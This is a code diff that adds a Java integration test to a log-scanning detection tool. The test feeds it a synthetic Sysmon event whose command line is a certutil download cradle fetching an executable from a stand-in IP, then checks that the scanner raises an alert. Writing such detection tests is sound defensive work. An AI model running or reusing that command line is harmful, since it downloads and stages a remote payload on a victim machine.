@@ -89,6 +89,25 @@ class DistributionIT {
     }
 
     @Test
+    void scanAnalysesAFileWithTheShippedRulesAndModel(@TempDir Path tmp) throws Exception {
+        Path events = tmp.resolve("events.jsonl");
+        // A certutil download cradle (one of the project's own Sigma rules) and an ordinary process start.
+        Files.writeString(events, String.join("\n",
+                "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
+                        + "\"Hostname\":\"ws1\",\"TimeCreated\":\"2026-12-01T10:00:00Z\",\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
+                        + "\"CommandLine\":\"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\\\Users\\\\Public\\\\a.exe\"}",
+                "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
+                        + "\"Hostname\":\"ws1\",\"TimeCreated\":\"2026-12-01T10:00:01Z\",\"Image\":\"C:\\\\Windows\\\\notepad.exe\","
+                        + "\"CommandLine\":\"notepad.exe\"}", ""));
+        Path out = tmp.resolve("alerts.jsonl");
+        Result r = centinela("scan", "--out", out.toString(), events.toString());
+        assertEquals(0, r.code, r.out);
+        assertTrue(r.out.contains("2 events read"), r.out);
+        String alerts = Files.readString(out);
+        assertTrue(alerts.contains("Certutil"), "the certutil download is alerted\n" + alerts + r.out);
+    }
+
+    @Test
     void theUnitFilesExecStartRunsTheDistribution(@TempDir Path tmp) throws Exception {
         String unit = Files.readString(home.resolve("deploy/centinela.service"));
         String execStart = unit.lines().filter(l -> l.startsWith("ExecStart=")).findFirst().orElseThrow()
